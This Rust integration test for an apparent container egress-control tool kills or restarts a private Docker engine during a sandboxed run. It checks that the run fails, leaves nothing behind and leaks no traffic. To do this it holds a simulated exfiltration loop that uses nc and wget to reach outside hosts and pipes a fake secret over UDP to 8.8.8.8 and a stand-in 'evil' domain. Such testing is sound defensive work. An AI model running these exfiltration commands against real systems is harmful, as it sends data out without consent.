//! An engine that is restarted, or dies, under a run: the run ends, nothing is left, and nothing gets out meanwhile.
//!
//! On an engine of the test's own, with folders, socket and processes of its own and no network.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use lab::cli::{self, Said};
use lab::policies;
use lab::topology::{OTHER4, PUBLIC4, ip};
use lab::wait::{eventually, within};
use nix::mount::{MntFlags, umount2};
use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::place;
use crate::world::Here;

/// Small: a shell and a few clients.
const IMAGE: &str = "sallyport/test-musl:latest";

/// A `dockerd` of this test.
#[derive(Debug)]
struct Dockerd {
    folder: tempfile::TempDir,
    child: Option<Child>,
}

impl Dockerd {
    fn start() -> Self {
        let folder = tempfile::Builder::new()
            .prefix("sallyport-lab-engine-")
            .tempdir()
            .expect("a folder");
        let mut engine = Self {
            folder,
            child: None,
        };
        engine.launch();
        engine
    }

    fn at(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    fn launch(&mut self) {
        let path = |name: &str| self.at(name).display().to_string();
        // what a killed one left would keep this one from starting
        for stale in ["pid", "exec/containerd/containerd.pid"] {
            let _ = std::fs::remove_file(self.at(stale));
        }
        let log = std::fs::File::options()
            .create(true)
            .append(true)
            .open(self.at("log"))
            .expect("a log");
        let mut command = Command::new("dockerd");
        command
            .args(["--bridge=none", "--iptables=false", "--ip6tables=false"])
            .args(["--host", &format!("unix://{}", path("sock"))])
            .args(["--data-root", &path("data"), "--exec-root", &path("exec")])
            .args(["--pidfile", &path("pid")])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log);
        self.child = Some(command.spawn().expect("start dockerd"));
        eventually("the engine to answer", || {
            (self.tool(&["version"]).code == Some(0)).then_some(())
        });
    }

    fn tool(&self, arguments: &[&str]) -> Said {
        let host = format!("unix://{}", self.at("sock").display());
        let mut command = Command::new("docker");
        command.args(["--host", &host]).args(arguments);
        command
            .stdin(Stdio::null())
            .output()
            .expect("docker")
            .into()
    }

    fn load(&self, image: &str) {
        let mut save = Command::new("docker")
            .args(["save", image])
            .stdout(Stdio::piped())
            .spawn()
            .expect("docker save");
        let host = format!("unix://{}", self.at("sock").display());
        let loaded = Command::new("docker")
            .args(["--host", &host, "load", "--quiet"])
            .stdin(save.stdout.take().expect("piped"))
            .output()
            .expect("docker load");
        assert!(
            save.wait().expect("save").success(),
            "run `./dev programs` first"
        );
        assert!(loaded.status.success(), "{loaded:?}");
    }

    fn end(&mut self, signal: Signal) {
        if let Some(mut child) = self.child.take() {
            let pid = Pid::from_raw(i32::try_from(child.id()).expect("pid"));
            let _ = kill(pid, signal);
            let _ = child.wait();
        }
    }

    fn containers(&self) -> String {
        self.tool(&["ps", "--all", "--quiet"]).out
    }
}

impl Drop for Dockerd {
    fn drop(&mut self) {
        self.end(Signal::SIGTERM);
        // an engine mounts its folder over itself, and one that is killed leaves that behind
        while umount2(&self.at("data"), MntFlags::MNT_DETACH).is_ok() {}
        // a containerd that a killed engine left ends with the next engine that is stopped in order, which this one was
        if std::thread::panicking() {
            let log = std::fs::read_to_string(self.at("log")).unwrap_or_default();
            let tail: Vec<&str> = log.lines().rev().take(20).collect();
            eprintln!("--- engine log, newest first ---\n{}", tail.join("\n"));
        }
    }
}

fn runner(lab: &Here) -> Child {
    let config = lab.directory().join("config.yml");
    let mut command = cli::command(&["runner".as_ref(), "--config".as_ref(), config.as_os_str()]);
    let log = std::fs::File::create(lab.directory().join("runner.log")).expect("a log");
    command.stdout(Stdio::null()).stderr(log);
    let child = lab.topology.uplink.start(&mut command).expect("start");
    eventually("the runner to answer", || {
        std::os::unix::net::UnixStream::connect(lab.directory().join("runner.sock")).ok()
    });
    child
}

/// A run that tries to get out as often as it can.
fn knocking(lab: &Here, policy: &Path) -> Child {
    let config = lab.directory().join("config.yml").display().to_string();
    let script = format!(
        "echo ready; while :; do nc -w 1 {OTHER4} 80 < /dev/null; echo s3cr3t-dgram | nc -u -w 1 8.8.8.8 53; \
         wget -q -T 1 -O /dev/null http://evil.sallylab.net/; done 2> /dev/null"
    );
    let policy = policy.display().to_string();
    let mut command = cli::command(&[
        "run",
        "--quiet",
        "--config",
        &config,
        "--image",
        IMAGE,
        "--policy",
        &policy,
        "--timeout",
        "5m",
        "--",
        "/bin/sh",
        "-c",
        &script,
    ]);
    command.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = lab.topology.uplink.start(&mut command).expect("start");
    let mut ready = [0; 6];
    std::io::Read::read_exact(child.stdout.as_mut().expect("piped"), &mut ready)
        .expect("the command runs");
    child
}

#[test]
fn invariant_2_an_engine_that_restarts_or_dies_under_a_run_opens_nothing_and_leaves_nothing() {
    let mut engine = Dockerd::start();
    engine.load(IMAGE);
    let lines = format!("  pool: 0\n  engine: {}\n", engine.at("sock").display());
    let lab = Here::with(place::docker().expect("always there"), &lines);
    let policy = lab.file("domains.yml", policies::DOMAINS);
    let mut runner = runner(&lab);
    for signal in [Signal::SIGTERM, Signal::SIGKILL] {
        let frames = lab.capture.mark();
        let mut live = knocking(&lab, &policy);
        engine.end(signal);
        engine.launch();
        let ended = within(Duration::from_mins(1), || live.try_wait().expect("wait"));
        let code = ended
            .unwrap_or_else(|| panic!("the run hangs after {signal}"))
            .code();
        assert_ne!(code, Some(0), "a run that lost its engine is no success");
        // the reaper takes what the run could not
        let clean = within(Duration::from_secs(90), || {
            let networks = lab.sallyport(&["net", "ls", "--json"]).expect(0).json();
            (engine.containers().is_empty() && networks == serde_json::json!([])).then_some(())
        });
        assert!(clean.is_some(), "after {signal}: {}", engine.containers());
        for address in [OTHER4, "8.8.8.8"] {
            lab.capture.none_to(frames, ip(address));
        }
        assert!(!lab.capture.holds(frames, b"s3cr3t-"), "a datagram left");
        // the permitted twin, on the engine that came back
        let policy = policy.display().to_string();
        let mark = lab.capture.mark();
        let arguments = [
            "run", "--quiet", "--image", IMAGE, "--policy", &policy, "--",
        ];
        let command = ["wget", "-q", "-O", "/dev/null", "http://four.sallylab.net/"];
        lab.sallyport(&[&arguments[..], &command[..]].concat())
            .expect(0);
        assert!(!lab.capture.touching(mark, ip(PUBLIC4)).is_empty());
    }
    kill(
        Pid::from_raw(i32::try_from(runner.id()).expect("pid")),
        Signal::SIGTERM,
    )
    .expect("signal");
    runner.wait().expect("the runner ends");
}
